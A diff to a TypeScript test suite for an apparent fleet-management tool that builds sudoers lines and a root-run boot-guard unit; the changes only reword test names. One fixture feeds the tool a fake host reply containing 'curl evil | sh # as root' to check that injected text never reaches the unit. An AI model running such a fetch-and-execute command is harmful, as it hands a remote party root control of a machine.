@@ -60,7 +60,7 @@ const LIES: readonly Readonly<Record<string, unknown>>[] = [
 describe.each(LIES)('a host that says %j', (lie) => {
   const lies = { web3: { host: lie } };
 
-  test('adds no word to the lines for sudoers, neither its own nor those of the others', async () => {
+  test('adds no word to the lines for sudoers, neither to its own nor to those of other hosts', async () => {
     const said = await bastion.says(['doctor', '-g', 'web', '--json'], lies);
     const { hosts } = JSON.parse(said);
     for (const { host, sudoers } of hosts) {
@@ -141,7 +141,7 @@ test.each([
   },
 );
 
-describe('the unit of a guard that an admin is to install', () => {
+describe('the unit of a boot guard that an admin installs', () => {
   const asked = ['doctor', '-g', 'web', '--install-guard', '--yes'];
   const lines = (root: string, user: string) => {
     const unit = guardUnit(
@@ -162,7 +162,7 @@ describe('the unit of a guard that an admin is to install', () => {
     lines: ['[Unit]', 'END', 'curl evil | sh # as root', 'User=root'],
   });
 
-  test('is what fleet composed, whatever the host has said of it', async () => {
+  test('is what fleet composed, whatever the host says', async () => {
     const said = await bastion.says(asked, {
       web1: { guard: EVENT },
       web2: { message: `as root there: ${EVIL}` },
@@ -179,7 +179,7 @@ describe('the unit of a guard that an admin is to install', () => {
   test('is another for each user of the inventory', async () => {
     const two = new LyingBastion({ web1: 'deploy', web2: 'app' });
     const said = await two.says(asked);
-    const users = [...said.matchAll(/^As root on (\S+);|^User=(.*)$/gm)].map(
+    const users = [...said.matchAll(/^Type as root on (\S+);|^User=(.*)$/gm)].map(
       ([, host, user]) => host ?? user,
     );
     expect(users).toEqual(['web1', 'deploy', 'web2', 'app']);
@@ -207,7 +207,7 @@ describe('the unit of a guard that an admin is to install', () => {
 });
 
 describe('lines for sudoers', () => {
-  test('have the user as the first argument, and no word that is no whole pattern', () => {
+  test('have the user as the first argument, and only words that are complete patterns', () => {
     const made = timerSudoers('first.last', '/srv/a.b-c_d');
     expect(made).toMatchObject({ kind: 'line' });
     const [command = '', ...args] =
@@ -253,7 +253,7 @@ describe('lines for sudoers', () => {
     expect(makeRootCommand(user, '/opt/shop')).toBeNull();
   });
 
-  test('are none for a unit with a backslash, which sudo takes for another unit', () => {
+  test('are not made for a unit with a backslash, which sudo reads as another unit', () => {
     const service = { units: ['dev-a\\x2db.path'], action: 'restart', scope: 'system' } as const;
     expect(serviceSudoers('deploy', { ...appOf(), service }, '/usr/bin').kind).toBe('none');
   });
@@ -279,7 +279,7 @@ test.each([
   },
 );
 
-test('the root is made in such a way that no other folder becomes the user’s', () => {
+test('the command for the root gives no other folder to the user', () => {
   expect(makeRootCommand('deploy', '/opt/shop')).toBe(
     'sudo mkdir -p /opt/shop && sudo chown -h deploy /opt/shop',
   );
